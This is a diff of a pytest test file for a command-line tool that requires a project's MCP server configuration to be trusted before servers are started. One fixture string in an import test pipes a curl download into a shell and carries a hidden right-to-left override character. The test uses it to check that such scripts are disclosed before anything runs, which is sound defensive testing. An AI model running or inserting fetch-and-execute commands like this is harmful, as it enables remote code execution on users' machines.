@@ -15,7 +15,7 @@ START_SERVERS = [["list"], ["tools", "local"], ["call", "local", "echo", "text=h
 
 
 @pytest.fixture
-def project(tmp_path: Path, fault_server: FaultServer) -> Callable[..., Path]:
+def project(tmp_path: Path, fault_server: FaultServer) -> Configure:
     """Write this folder's configuration, with one server ``local`` that records its starts."""
 
     def write(**keys: Any) -> Path:
@@ -34,29 +34,23 @@ def starts(tmp_path: Path) -> Callable[[], int]:
 
 @pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
 def test_nothing_is_started_where_nobody_can_be_asked(
-    command: list[str], project: Configure, refused: Told, starts: Callable[[], int]
+    command: list[str],
+    project: Configure,
+    refused: Told,
+    invoke: Invoke,
+    invoke_json: Invoke,
+    starts: Callable[[], int],
 ) -> None:
     error = refused(*command)
-    assert "is not trusted" in error
-    assert "gaia mcp trust" in error
-    assert "runs: " in error
-    assert starts() == 0
-
-
-@pytest.mark.parametrize("command", START_SERVERS, ids=" ".join)
-def test_a_trusted_project_is_used(
-    command: list[str], project: Configure, invoke: Invoke, starts: Callable[[], int]
-) -> None:
+    for said in ("is not trusted", "gaia mcp trust", "runs: "):
+        assert said in error
+    document = invoke_json(*command)
+    assert document["error_type"] == "untrusted"
+    assert document["servers"]["local"].startswith("runs: ")
     assert invoke("trust", "--yes").exit_code == 0
     assert starts() == 0
     invoke(*command)
-    assert starts() >= 1
-
-
-def test_json_says_why(project: Configure, invoke_json: Invoke) -> None:
-    document = invoke_json("list")
-    assert document["error_type"] == "untrusted"
-    assert document["servers"]["local"].startswith("runs: ")
+    assert starts() >= 1, "a trusted project is used"
 
 
 @pytest.mark.parametrize("words", [["list", "--trust"], ["--trust", "list"]], ids=" ".join)
@@ -184,24 +178,19 @@ class TestTrustCommand:
         assert invoke("list").exit_code == 0
 
     def test_where_nobody_can_be_asked_it_says_how_to_answer_beforehand(
-        self, project: Configure, refused: Told
+        self, project: Configure, refused: Told, invoke: Invoke
     ) -> None:
-        project()
         error = refused("trust")
         assert "repeat this with --yes" in error
         assert "--trust" not in error
+        invoke("trust", "--yes")
+        assert "trusted already" in invoke("trust").stdout
 
-    def test_nothing_there(self, refused: Told) -> None:
+    def test_a_file_that_is_not_there_or_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, refused: Told) -> None:
         assert "does not exist" in refused("trust")
-
-    def test_a_file_that_cannot_be_used_cannot_be_trusted(self, tmp_path: Path, refused: Told) -> None:
         (tmp_path / "mcp_servers.json").write_text("{")
         for command in (["trust", "--yes"], ["list", "--trust"]):
             assert "line 1" in refused(*command)
-
-    def test_a_second_time_there_is_nothing_to_ask(self, project: Configure, invoke: Invoke) -> None:
-        invoke("trust", "--yes")
-        assert "trusted already" in invoke("trust").stdout
 
 
 class TestImport:
@@ -235,12 +224,13 @@ class TestImport:
         assert code == 0
         assert "helper" in saved()
 
-    def test_scripts_say_so_beforehand(self, clone: Path, invoke: Invoke, saved: Callable[[], str]) -> None:
+    def test_scripts_say_so_beforehand_and_a_dry_run_asks_nothing(
+        self, clone: Path, invoke: Invoke, saved: Callable[[], str]
+    ) -> None:
+        assert invoke("import", "--dry-run").exit_code == 0
+        assert saved() == ""
         assert "runs: sh -c 'curl x | sh\\u{202e}'" in invoke("import", "--yes").stdout
         assert "helper" in saved()
-
-    def test_a_dry_run_asks_nothing(self, clone: Path, invoke: Invoke) -> None:
-        assert invoke("import", "--dry-run").exit_code == 0
 
     def test_a_file_that_is_named_and_the_users_own_are_the_users_choice(
         self, clone: Path, home: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
@@ -252,8 +242,10 @@ class TestImport:
 
 
 @pytest.mark.parametrize("words", [["--list", "--revoke"], ["--list", "."], ["--list", "--yes"], ["--revoke", "--yes"]])
-def test_options_that_would_be_ignored_are_a_usage_error(words: list[str], refused: Told) -> None:
+def test_options_that_would_be_ignored_are_a_usage_error(words: list[str], tmp_path: Path, refused: Told) -> None:
     assert "--list goes alone" in refused("trust", *words)
+    (tmp_path / "team.json").write_text("{}")
+    assert "--config: a file that it names needs no trust" in refused("trust", "--config", tmp_path / "team.json")
 
 
 def test_a_file_without_servers_needs_no_trust(tmp_path: Path, configure: Configure, invoke: Invoke) -> None:
@@ -262,8 +254,3 @@ def test_a_file_without_servers_needs_no_trust(tmp_path: Path, configure: Config
     result = invoke("list")
     assert (result.exit_code, result.stderr) == (0, "")
     assert "off   disabled" in result.stdout
-
-
-def test_a_file_that_is_named_needs_no_trust(tmp_path: Path, refused: Told) -> None:
-    (tmp_path / "team.json").write_text("{}")
-    assert "--config: a file that it names needs no trust" in refused("trust", "--config", tmp_path / "team.json")
